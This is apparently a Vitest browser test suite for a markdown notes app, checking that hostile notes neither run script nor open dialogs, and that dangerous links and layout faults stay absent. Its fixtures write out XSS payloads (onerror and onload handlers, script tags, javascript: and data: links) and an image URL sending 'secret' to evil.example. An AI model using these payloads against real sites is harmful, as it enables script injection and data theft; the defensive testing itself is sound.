/** Notes that were written to do harm, in a real browser: nothing runs, nothing is loaded, all is shown. */
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { BROWSER, NO_BROWSER } from './browser.ts'
import { closeBrowser, layoutFaults, openPage, startBrowser } from './page.ts'
import { PAYLOADS } from './payloads.ts'
import { serve, untilIndexed, type Served } from './served.ts'

const FILES: Readonly<Record<string, string>> = {
  'script.md':
    '# <img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n[a](javascript:alert(3)) <svg onload=alert(4)>\n\n' +
    '![leak](https://evil.example/?secret) <img src="https://evil.example/2.png"> <style>body{display:none}</style>\n\n' +
    '<math><mtext><img src onerror=alert(5)></mtext></math> $\\href{javascript:alert(6)}{x}$ <iframe src="https://evil.example"></iframe>\n\n' +
    '<form action="https://evil.example"><button>go</button></form> <a href="data:text/html,<script>alert(7)</script>">d</a>\n',
  'bidi\u202e.md': '# Turned \u202e around\n\nText \u0007 with \u2066 marks.\n',
  'line\nbreak.md': '# A name of two lines\n\nAnd a text.\n',
  '<b>bold<.md': '# [[script]]\n\n[[quotes"]]\n',
  'quotes".md': '# "Quotes" & <b>tags</b>\n\nSee [[script]].\n',
  'line.md': `# Line\n\n${'word [x](y) '.repeat(90_000)}\n`,
  'table.md': `# Table\n\n| a | b |\n|---|---|\n${'| cell | other |\n'.repeat(36_000)}`,
  'headings.md': Array.from({ length: 10_000 }, (_, i) => `## Heading ${i}\n`).join('\n'),
  ...Object.fromEntries(
    Array.from({ length: 400 }, (_, i) => [
      `many/from-${i}.md`,
      `# From ${i}\n\nSee [[headings]].\n`,
    ]),
  ),
}

const finished: (() => void | Promise<void>)[] = []
let served: Served

beforeAll(async () => {
  if (!BROWSER) return
  served = await serve((clean) => finished.unshift(clean), { files: FILES, bare: true })
  await untilIndexed(served, Object.keys(FILES).length)
  await startBrowser()
})

afterAll(async () => {
  await closeBrowser()
  for (const clean of finished) await clean()
})

describe.skipIf(!BROWSER)(BROWSER ? 'a hostile note' : NO_BROWSER, () => {
  it.each(Object.keys(FILES).filter((name) => !name.startsWith('many/')))(
    'does no harm: %j',
    async (name) => {
      const id = `handbook/${name}`
      const { page, faults, close } = await openPage(
        `${served.url}/n/${id.split('/').map(encodeURIComponent).join('/')}`,
      )
      onTestFinished(close)
      let alerts = 0
      page.on('dialog', (dialog) => {
        alerts++
        void dialog.dismiss()
      })
      await page.locator('.prose').first().waitFor()
      await page.keyboard.press('s')
      await page.locator('.source li').first().waitFor()
      expect(alerts).toBe(0)
      expect(faults).toEqual([])
      expect(await layoutFaults(page)).toEqual([])
    },
  )

  it.each(['script.md', 'bidi\u202e.md', '<b>bold<.md', 'quotes".md', 'table.md', 'headings.md'])(
    'does no harm while it is written, nor what it will look like: %j',
    async (name) => {
      const id = `handbook/${name}`
      const { page, faults, close } = await openPage(
        `${served.url}/n/${id.split('/').map(encodeURIComponent).join('/')}`,
      )
      onTestFinished(close)
      let alerts = 0
      page.on('dialog', (dialog) => {
        alerts++
        void dialog.dismiss()
      })
      await page.locator('[data-tool=edit]').waitFor()
      await page.keyboard.press('e')
      await page.locator('.cm-content').waitFor()
      await page.locator('.looks [data-line]').first().waitFor()
      // What it is made to finish comes from others too.
      await page.keyboard.press('Control+End')
      await page.keyboard.type('\n\n<script>alert(8)</script>\n\n[[')
      await page.locator('.cm-tooltip-autocomplete li').first().click()
      await page.locator('.looks', { hasText: '<script>alert(8)</script>' }).waitFor()
      expect(alerts).toBe(0)
      expect(faults).toEqual([])
      expect(await layoutFaults(page)).toEqual([])
    },
  )

  it('does no harm while it is pasted, piece by piece, nor what it will look like', async () => {
    const { page, faults, close } = await openPage(`${served.url}/n/handbook/script.md`)
    onTestFinished(close)
    let alerts = 0
    page.on('dialog', (dialog) => {
      alerts++
      void dialog.dismiss()
    })
    await page.locator('[data-tool=edit]').waitFor()
    await page.keyboard.press('e')
    await page.locator('.cm-content').waitFor()
    expect(PAYLOADS.length).toBeGreaterThan(119)
    for (const [at, payload] of PAYLOADS.entries()) {
      await page.keyboard.press('Control+a')
      // What is written over would leave its look behind, which the policy refuses the browser.
      await page.keyboard.press('Delete')
      await page.keyboard.insertText(`Piece ${at}.\n\n${payload}`)
      await page
        .locator('.looks p')
        .filter({ hasText: new RegExp(`^Piece ${at}\\.`) })
        .waitFor()
      // What it looks like may be pressed, too.
      const leads = await page
        .locator('.looks')
        .locator('[href], [src], [action], [formaction]')
        .evaluateAll((all) => all.flatMap((each) => [...each.attributes].map(({ value }) => value)))
      expect(leads.filter((each) => /^\s*(?:javascript|vbscript|data):/i.test(each))).toEqual([])
      // A picture that is not there is asked for, here.
      const others = faults.filter((each) => !each.includes('404'))
      expect([payload, ...others]).toEqual([payload])
    }
    expect(alerts).toBe(0)
    expect(await page.locator('.editor').count()).toBe(1)
  }, 240_000)

  it('lists twenty backlinks of many, and then more', async () => {
    const { page, close } = await openPage(`${served.url}/n/handbook/headings.md`)
    onTestFinished(close)
    // Of a note that long they stand above its text.
    await page.locator('.backlinks-above').waitFor()
    await page.keyboard.press('b')
    await page.locator('.backlinks h2', { hasText: '400 backlinks' }).waitFor()
    await expect.poll(() => page.locator('.backlinks li').count()).toBe(20)
    await page.locator('.backlinks').getByRole('button', { name: '380 more' }).press('Enter')
    await expect.poll(() => page.locator('.backlinks li').count()).toBe(120)
  })

  it('reads a long note part by part', async () => {
    const { page, close } = await openPage(`${served.url}/n/handbook/table.md`)
    onTestFinished(close)
    const on = page.getByRole('button', { name: /^Read on/ })
    await on.press('Enter')
    await page.locator('.prose').nth(1).waitFor()
    expect(await page.locator('.prose').nth(1).locator('th').first().textContent()).toBe('a')
  })
})
